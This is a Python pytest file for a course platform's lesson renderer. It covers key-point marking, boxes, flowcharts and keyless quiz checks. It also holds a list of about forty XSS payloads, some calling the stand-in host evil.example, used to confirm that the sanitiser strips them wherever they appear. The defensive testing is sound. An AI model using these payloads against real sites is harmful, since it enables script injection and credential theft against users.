# ruff: noqa: E501  # names are sentences and tables have one case a line
"""What is made of a lesson's text: marked points, boxes, checks without keys, and nothing that could run."""

import re
from html.parser import HTMLParser

import pytest

from lms import markup
from lms.courses.actions.rendering import PublicQuestion, blocks
from lms.courses.rules.lesson_source import parse_lesson

HEAD = '---\ntitle: "Title"\nminutes: 3\ncompetencies: [a-b]\n---\n'
QUESTION = PublicQuestion(
    question_id=7,
    ref="q-1",
    kind="single",
    stem={"zh": "什么？", "en": "<em>What</em>?"},
    options=(("a", {"zh": "甲", "en": "A < B"}), ("b", {"zh": "乙", "en": "B"})),
    unit={},
)


def made(body: str, locale: str = "en") -> str:
    lesson = parse_lesson(HEAD + body)
    return "\n".join(
        piece["html"] for block in blocks(lesson, locale, {}) for piece in block["pieces"] if "html" in piece
    )


def test_key_points_are_marked_with_their_number_where_they_stand() -> None:
    html = made(
        "We say ==the *first* thing==, `==not this==`.\n\n- then ==the second==\n\n::: key\nThird\n? Which?\n:::\n"
    )
    assert 'We say <mark class="key"><sup>1</sup>the <em>first</em> thing</mark>' in html
    assert "<code>==not this==</code>" in html
    assert '<li>then <mark class="key"><sup>2</sup>the second</mark></li>' in html
    assert (
        '<section class="block keypoint"><h3>Key point</h3><p><mark class="key"><sup>3</sup>Third</mark></p></section>'
        in html
    )
    assert "Which?" not in html


def test_boxes_and_calls_look_as_designed() -> None:
    html = made(
        "::: mnemonic\n45, ==double== it.\n\nThen 30.\n:::\n::: story\nOnce.\n:::\n"
        "::: case A <b> house\ncaller 0:21 | Dark.\nagent 0:29 | I *see*.\n+ Good.\nagent 0:40 | No.\n+ Good.\n! Bad.\n:::\n"
    )
    assert (
        '<section class="block mnemonic"><h3>To remember it</h3><p>45, <mark class="key"><sup>1</sup>double</mark> it.</p>'
        in html
    )
    assert '<section class="block story"><h3>A story to hang it on</h3><p>Once.</p></section>' in html
    assert "<h3>A call to learn from: A house</h3>" in html
    assert '<li><span class="who">Caller · 0:21</span>Dark.</li>' in html
    assert (
        '<li class="agent ok"><span class="who">Agent · 0:29</span>I <em>see</em>.<span class="remark ok">Good.</span></li>'
        in html
    )
    assert '<li class="agent warn"><span class="who">Agent · 0:40</span>' in html


def test_chinese_lessons_have_chinese_labels() -> None:
    html = made("::: mnemonic\n四十五。\n:::\n::: case 夜里\ncaller 0:01 | 喂\n:::\n", "zh")
    assert "记一句" in html
    assert "听一通电话：夜里" in html
    assert "用户 · 0:01" in html


def test_a_flow_is_an_ordered_list_whose_questions_say_where_each_answer_leads() -> None:
    html = made(
        "```mermaid\nflowchart LR\na[Place] --> b{Danger & co?}\nb -->|no| c[Usual]\nb -->|yes| d[Away]\nc --> e([End])\nd --> e\n```\n"
    )
    assert html == (
        '<figure class="flow"><ol><li><b>Place</b></li><li class="ask"><b>Danger &amp; co?</b><span class="then">no: Usual</span><br>'
        '<span class="then">yes: Away</span></li><li><b>Usual</b><span class="then">→ End</span></li>'
        '<li class="branch"><b>Away</b></li><li class="end"><b>End</b></li></ol></figure>'
    )


def test_a_check_holds_no_key_and_speaks_the_language_of_the_lesson() -> None:
    lesson = parse_lesson(HEAD + "Text\n\n::: check q-1\n:::\nMore\n\n::: check q-none\n:::\n")
    english, chinese = (blocks(lesson, locale, {"q-1": QUESTION})[0]["pieces"] for locale in ("en", "zh"))
    assert english == [
        {"html": "<p>Text</p>"},
        {
            "check": {
                "ref": "q-1",
                "question_id": 7,
                "kind": "single",
                "stem": "<em>What</em>?",
                "options": [{"id": "a", "text": "A < B"}, {"id": "b", "text": "B"}],
                "unit": "",
            }
        },
        {"html": "<p>More</p>"},
    ]
    assert chinese[1]["check"]["stem"] == "什么？"


def test_each_block_knows_its_heading_and_points() -> None:
    lesson = parse_lesson(HEAD + "==One==\n\n## *Two*\nText\n\n### Three\n==Four==\n")
    assert [(block["heading"], block["points"]) for block in blocks(lesson, "en", {})] == [(None, [1]), ("Two", [2])]
    assert "<h3>Three</h3>" in made("a\n\n## Two\n### Three\nb")


class Strict(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += attrs


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src=//evil.example>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,x'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "![x](x\" onerror=\"alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<div data-confirm='x' hx-get='/people' hx-trigger=load id=toasts>x</div>",
    "<div class='toast card btn' contenteditable autofocus onfocus=alert(1) tabindex=1>x</div>",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "<mark class='key' onclick=alert(1)><sup>9</sup>x</mark>",
    "==<img src=x onerror=alert(1)>==",
    "<a href=\"https://example.org\" target=_blank ping=//evil.example>x</a>",
]  # fmt: skip
PLACES = {
    "prose": "{}",
    "a story": "::: story\n{}\n:::",
    "a key box": "::: key\n{}\n? {}\n:::",
    "a title of a call": "::: case {}\ncaller 0:01 | a\n:::",
    "a turn": "::: case T\ncaller 0:01 | {}\n! {}\n:::",
    "a flow": "```mermaid\nflowchart LR\na[{}] -->|{}| b{{{}}}\n```",
    "a heading": "a\n\n## {}\nb\n\n### {}\nc",
}
SAFE_ATTRIBUTES = {"class", "href", "src", "alt", "title", "rel", "lang", "start", "align"}


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_text_dies_wherever_it_stands(hostile: str, place: str) -> None:
    text = hostile if place in ("prose", "a story") else hostile.replace("\n", " ")
    html = made(PLACES[place].replace("{{{}}}", "{" + text + "}").replace("{}", text))
    assert_harmless(html)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_text_dies_in_questions(hostile: str) -> None:
    assert_harmless(markup.inline(hostile))


def assert_harmless(html: str) -> None:
    browser = Strict()
    browser.feed(html)
    assert browser.tags <= markup.TAGS
    assert {name for name, _ in browser.attributes} <= SAFE_ATTRIBUTES
    for name, value in browser.attributes:
        if name in ("href", "src"):
            assert re.match(r"https?:|mailto:|tel:|[^:]*$", value or ""), value
        if name == "class":
            assert set((value or "").split()) <= markup.CLASSES
